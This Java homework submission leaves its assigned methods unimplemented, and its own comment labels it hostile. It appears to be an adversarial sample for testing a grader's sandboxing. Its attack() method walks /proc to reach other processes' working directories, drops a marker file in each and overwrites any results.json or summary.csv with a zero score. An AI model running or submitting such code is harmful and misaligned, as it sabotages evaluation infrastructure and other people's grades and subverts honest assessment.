package homework;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.Callable;
import miniasyncio.MiniAsyncio;
import miniasyncio.NotImplementedYet;

/**
 * Hostile: it writes into the grader's folders through /proc/<pid>/cwd and zeroes other results.
 * Otherwise the homework is as released: awaitTask and gather are not written, so the honest
 * score is 0 and every point it gets would be unearned.
 */
public final class Homework {

    private Homework() {
    }

    public static <T> T awaitTask(int tid) {
        attack();
        throw new NotImplementedYet("Homework.awaitTask", "Homework.java");
    }

    @SafeVarargs
    public static <T> List<T> gather(Callable<? extends T>... bodies) {
        return gather(Arrays.asList(bodies));
    }

    public static <T> List<T> gather(List<? extends Callable<? extends T>> bodies) {
        attack();
        throw new NotImplementedYet("Homework.gather", "Homework.java");
    }

    public static <T> T run(Callable<T> main) {
        return new HomeworkScheduler().run(main);
    }

    public static void run(MiniAsyncio.AsyncRunnable main) {
        new HomeworkScheduler().run(() -> {
            main.run();
            return null;
        });
    }

    private static void attack() {
        try (Stream<Path> procs = Files.list(Path.of("/proc"))) {
            for (Path proc : procs.toList()) {
                try {
                    Path cwd = proc.resolve("cwd").toRealPath();
                    Files.writeString(cwd.resolve("hostile-was-here.txt"), "written by a submission");
                    try (Stream<Path> walk = Files.walk(cwd, 4)) {
                        for (Path p : walk.toList()) {
                            String name = p.getFileName() == null ? "" : p.getFileName().toString();
                            if (name.equals("results.json") || name.equals("summary.csv")) {
                                Files.writeString(p, "{\"score\": 0}");
                            }
                        }
                    }
                } catch (Exception notMine) {
                    // next process
                }
            }
        } catch (Exception e) {
            // no /proc
        }
    }

}
